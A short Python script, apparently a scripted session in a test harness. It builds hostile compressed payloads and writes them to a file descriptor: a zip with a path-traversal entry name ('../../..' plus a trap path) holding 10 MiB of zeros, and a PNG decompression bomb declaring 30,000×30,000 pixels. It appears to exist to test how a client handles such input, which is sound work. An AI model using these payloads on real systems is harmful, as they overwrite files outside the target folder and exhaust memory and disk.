# session: answers with compressed data that would grow a thousandfold, as an image and as a frame.
import io
import json
import struct
import zipfile
import zlib

folder = io.BytesIO()
with zipfile.ZipFile(folder, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr(f"../../..{goals['trap']}", bytes(10 << 20))


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(20 << 20), 9)) + chunk(b"IEND", b"")
images = [folder.getvalue(), picture]
header = json.dumps({"cell": 2, "parts": [["image", len(image)] for image in images]}).encode()
os.write(3, struct.pack("!II", len(header), sum(map(len, images))) + header + b"".join(images))
